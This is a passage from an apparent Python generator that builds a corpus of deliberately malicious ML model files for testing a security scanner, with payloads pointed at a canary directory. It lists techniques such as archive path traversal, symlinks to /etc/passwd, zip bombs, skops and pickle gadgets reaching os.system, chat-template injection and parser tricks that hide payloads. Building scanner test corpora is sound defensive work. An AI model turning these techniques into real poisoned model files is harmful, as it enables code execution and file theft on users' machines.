        "onnx-external-attr-injection.onnx",
        case_onnx_external_attr_injection,
        "external_data basepath /etc plus unknown keys set as attributes",
        SRC_ONNX_WRITE,
        HIGH,
    ),
    Case(
        "onnx-symlink-bundle.tar",
        case_onnx_symlink_bundle,
        "model.onnx whose external file weights.bin is a symlink to /etc/passwd",
        SRC_ONNX_WRITE,
        HIGH,
    ),
    Case(
        "safetensors-header-len.safetensors",
        case_safetensors_header_len,
        "header length field of 1 TiB in a tiny file",
        SRC_DOS,
        MEDIUM,
    ),
    Case(
        "safetensors-overlap.safetensors", case_safetensors_overlap, "overlapping tensor data offsets", SRC_DOS, MEDIUM
    ),
    Case(
        "safetensors-out-of-bounds.safetensors",
        case_safetensors_out_of_bounds,
        "tensor data offsets past the end of the file",
        SRC_DOS,
        MEDIUM,
    ),
    Case("zip-slip.zip", case_zip_slip, "zip member ../../aiwarden-zip-slip.txt", SRC_ARCHIVE, HIGH),
    Case("zip-absolute.zip", case_zip_absolute, "zip member with an absolute path", SRC_ARCHIVE, HIGH),
    Case("zip-symlink.zip", case_zip_symlink, "zip symlink member to /etc/passwd", SRC_ARCHIVE, HIGH),
    Case("tar-traversal.tar", case_tar_traversal, "tar member ../../aiwarden-tar-slip.txt", SRC_ARCHIVE, HIGH),
    Case("tar-symlink.tar", case_tar_symlink, "tar symlink member to /etc/passwd", SRC_ARCHIVE, HIGH),
    Case("tar-hardlink.tar", case_tar_hardlink, "tar hard-link member to /etc/passwd", SRC_ARCHIVE, HIGH),
    Case("zip-bomb.zip", case_zip_bomb, "256 MiB of zeros deflated into one member", SRC_DOS, MEDIUM),
    Case(
        "skops-function-nodes.skops",
        case_skops_function_nodes,
        "skops schema with FunctionNode builtins.eval and os.system",
        SRC_SKOPS,
        HIGH,
    ),
    Case(
        "skops-operator-methodcaller.skops",
        case_skops_operator_methodcaller,
        "skops OperatorFuncNode methodcaller('system', cmd)",
        SRC_SKOPS,
        HIGH,
    ),
    Case("skops-method-node.skops", case_skops_method_node, "skops MethodNode __call__ on os.system", SRC_SKOPS, HIGH),
    Case(
        "load-from-bytes-codecs.pkl",
        case_rt_load_from_bytes_codecs,
        "torch.storage._load_from_bytes of a pickle rebuilt by _codecs.encode at load time",
        SRC_RT_NESTED,
        CRITICAL,
    ),
    Case(
        "load-from-bytes-bytearray.pkl",
        case_rt_load_from_bytes_bytearray,
        "torch.storage._load_from_bytes of builtins.bytearray(<pickle>)",
        SRC_RT_NESTED,
        CRITICAL,
    ),
    Case(
        "load-from-bytes-zip.pkl",
        case_rt_load_from_bytes_zip,
        "torch.storage._load_from_bytes of a literal torch zip with a payload data.pkl",
        SRC_RT_NESTED,
        CRITICAL,
    ),
    Case(
        "randomstate-ctor-import-dotted.pkl",
        case_rt_randomstate_ctor,
        "numpy __randomstate_ctor applies torch._utils._import_dotted_name('posix.system')",
        SRC_RT_APPLY,
        CRITICAL,
    ),
    Case(
        "rebuild-from-type-v2.pkl",
        case_rt_rebuild_from_type,
        "torch._tensor._rebuild_from_type_v2 calls _import_dotted_name('posix.system')",
        SRC_RT_APPLY,
        CRITICAL,
    ),
    Case(
        "get-type-hints-eval.pkl",
        case_rt_get_type_hints,
        "typing.get_type_hints on a Namespace whose __annotations__ holds code",
        SRC_RT_TYPE_HINTS,
        CRITICAL,
    ),
    Case(
        "generator-ctor-get-type-hints.pkl",
        case_rt_generator_ctor_type_hints,
        "numpy __generator_ctor handed typing.get_type_hints and an annotated Namespace",
        SRC_RT_TYPE_HINTS,
        CRITICAL,
    ),
    Case(
        "int-hex-literal.pkl",
        case_rt_int_hex_literal,
        "INT '0x10' (CPython parses base 0) before the payload",
        SRC_RT_PARSER,
        CRITICAL,
    ),
    Case(
        "long-unicode-line.pkl",
        case_rt_long_unicode_line,
        "70,000-character protocol-0 UNICODE line before the payload",
        SRC_RT_PARSER,
        CRITICAL,
    ),
    Case("long4-2mib.pkl", case_rt_long4_2mib, "2 MiB LONG4 integer before the payload", SRC_RT_PARSER, CRITICAL),
    Case(
        "stack-2m.pkl",
        case_rt_stack_2m,
        "2,000,001 stack items (past the analysis limit) before the payload",
        SRC_RT_PARSER,
        HIGH,
    ),
    Case(
        "joblib-wrapper-hidden-ops.pkl",
        case_rt_joblib_wrapper_hidden_ops,
        "plain pickle with a NumpyArrayWrapper whose 'array bytes' are payload opcodes",
        SRC_RT_JOBLIB,
        CRITICAL,
    ),
    Case(
        "joblib-dtype-elsize-desync.joblib",
        case_rt_joblib_elsize_desync,
        "joblib int8 array whose dtype BUILD claims elsize 8; payload inside the over-skipped bytes",
        SRC_RT_JOBLIB,
        CRITICAL,
    ),
    Case(
        "npz-lzma-member.npz",
        case_rt_npz_lzma,
        ".npz whose object-array member is LZMA-compressed (zip method 14)",
        SRC_RT_LZMA,
        CRITICAL,
    ),
    Case(
        "tokenizer-config-ssti.json",
        case_rt_tokenizer_config_ssti,
        "tokenizer_config chat_template reaching cycler globals through names built with ~",
        SRC_RT_SSTI,
        CRITICAL,
    ),
    Case(
        "gguf-ssti-computed-names.gguf",
        case_rt_gguf_ssti,
        "GGUF chat_template reaching cycler globals through names built with ~",
        SRC_RT_SSTI,
        CRITICAL,
    ),
    Case(
        "keras-lambda-lzma.keras",
        case_rt_keras_lambda_lzma,
        "Keras v3 bytecode Lambda in a .keras zip with LZMA-compressed members",
        SRC_RT_LZMA,
        HIGH,
    ),
)


# ---------------------------------------------------------------------------------------------
# Driver
# ---------------------------------------------------------------------------------------------

STALE_NAME = re.compile(r"^m\d{2,}-")


def case_id(index: int) -> str:
    return f"m{index:02d}"


def generate(out: Path, canary: Path) -> list[dict[str, str]]:
    target = out / "malicious"
    target.mkdir(parents=True, exist_ok=True)
    entries, written = [], set()
    for index, case in enumerate(CASES, start=1):
        name = f"{case_id(index)}-{case.slug}"
        (target / name).write_bytes(case.build(Marker(str(canary / case_id(index)))))
        written.add(name)
        entries.append(
            {
                "path": f"malicious/{name}",
                "technique": case.technique,
                "source": case.source,
                "min_severity": case.min_severity,
            }
        )
    for stale in target.iterdir():
        if STALE_NAME.match(stale.name) and stale.name not in written and stale.is_file():
            stale.unlink()
    manifest = json.dumps({"files": entries}, indent=2, sort_keys=True) + "\n"
    (out / "manifest-malicious.json").write_text(manifest, encoding="utf-8")
    return entries


def main(argv: Sequence[str] | None = None) -> int:
    parser = argparse.ArgumentParser(description=__doc__.splitlines()[0] if __doc__ else None)
    parser.add_argument("--out", required=True, type=Path, help="corpus root (files go to OUT/malicious/)")
    parser.add_argument(
        "--canary",
        default=DEFAULT_CANARY,
        type=Path,
        help=f"directory the canary payloads point at (default {DEFAULT_CANARY})",
    )
    args = parser.parse_args(argv)
    entries = generate(args.out, args.canary.absolute())
    print(f"wrote {len(entries)} malicious files to {args.out / 'malicious'}")
    return 0


if __name__ == "__main__":
    sys.exit(main())
